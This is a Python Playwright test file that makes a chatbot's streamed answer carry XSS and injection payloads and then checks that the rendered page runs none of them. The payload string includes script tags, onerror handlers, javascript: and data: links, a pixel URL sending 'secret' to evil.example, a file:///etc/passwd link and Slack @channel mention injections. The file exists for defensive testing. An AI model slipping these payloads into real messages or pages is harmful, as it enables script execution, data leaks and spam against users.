"""An answer full of attacks does nothing in a real browser, from the vendor's stream to the page."""

import pytest
import pytest_asyncio
from playwright.async_api import Page, Route, expect

from slack_sandbox.page.render import Renderer
from slack_sandbox.server import Sandbox
from slack_sandbox.testing.browser import Visit, open_page, send, thread
from tests.scenarios.conftest import Stage, says

pytestmark = pytest.mark.asyncio(loop_scope="module")

ATTACKS = """\
<script>window.caught = 1</script> <img src=x onerror="window.caught = 2"> <iframe src="https://evil.example"></iframe>

&lt;script&gt;window.caught = 3&lt;/script&gt; &#60;img src=x onerror=window.caught=4&#62;

[run](javascript:window.caught=5) [data](data:text/html,<script>opener.caught=6</script>) [file](file:///etc/passwd)

![pixel](https://evil.example/pixel.png?q=secret) <style>body { display: none }</style>

<!channel> <!here> <!everyone> <@U0ADA> <#C0GENERAL> <!subteam^S012AB3CD> <!date^1392734382^{date}|now>

&lt;!channel&gt; &amp;lt;!channel&amp;gt; `<!channel>` **<@U0ADA>** [<!here>](https://a.example) <<!channel>>

<https://evil.example|your bank> <mailto:a@evil.example|write>

| <!channel> | <@U0ADA> |
|--|--|
| <!here> | <img src=x onerror="window.caught = 7"> |

```html
<!channel> <script>window.caught = 8</script>
```

```"><script>window.caught=9</script>
code
```

[real link](https://docs.example/page) and then the end.
"""


@pytest.fixture
def foreign_requests() -> list[str]:
    return []


@pytest_asyncio.fixture(loop_scope="module")
async def page(stage: Stage, visit: Visit, foreign_requests: list[str]) -> Page:
    """Has the bot answer with attacks, and records what the page asks of others than the sandbox."""
    stage.vendor.script(says(ATTACKS, pause_s=0.003))
    page = await open_page(visit, stage.sandbox)

    async def on_request(route: Route) -> None:
        if route.request.url.startswith(stage.sandbox.url):
            await route.continue_()
        else:
            foreign_requests.append(route.request.url)
            await route.fulfill(body="elsewhere", content_type="text/html")

    await page.context.route("**/*", on_request)
    return page


async def test_answer_executes_nothing_while_growing_and_when_complete_and_reads_as_written(
    page: Page, sandbox: Sandbox, foreign_requests: list[str]
) -> None:
    await send(page, "@bot do your worst")
    answer = thread(page).locator(".message").last.locator(".body")
    await expect(answer).to_contain_text("and then the end.")
    await expect(answer).not_to_contain_text("Writing…")
    for text in ("@channel @here @everyone @Ada #general", "<script>window.caught = 1</script>"):
        await expect(answer).to_contain_text(text)
    for link in await answer.locator("a[href]").all():
        assert (await link.get_attribute("href") or "").startswith(("https://", "mailto:"))
    assert await page.evaluate("window.caught") is None
    assert await page.evaluate("window.getComputedStyle(document.body).display") != "none"
    for element in ("script", "img", "iframe", "style", "form", "input", "[onerror]", "[style]", ".mention"):
        await expect(answer.locator(element)).to_have_count(0)
    assert foreign_requests == []
    assert sandbox.workspace.notified == []
    _, reply = sandbox.messages("general", sandbox.messages("general")[0].ts)
    revisions = sandbox.revisions("general", reply.ts)
    assert len(revisions) > 2
    shown = [Renderer(dict).blocks(revision.blocks) for revision in revisions]
    assert not any('class="mention"' in html for html in shown)
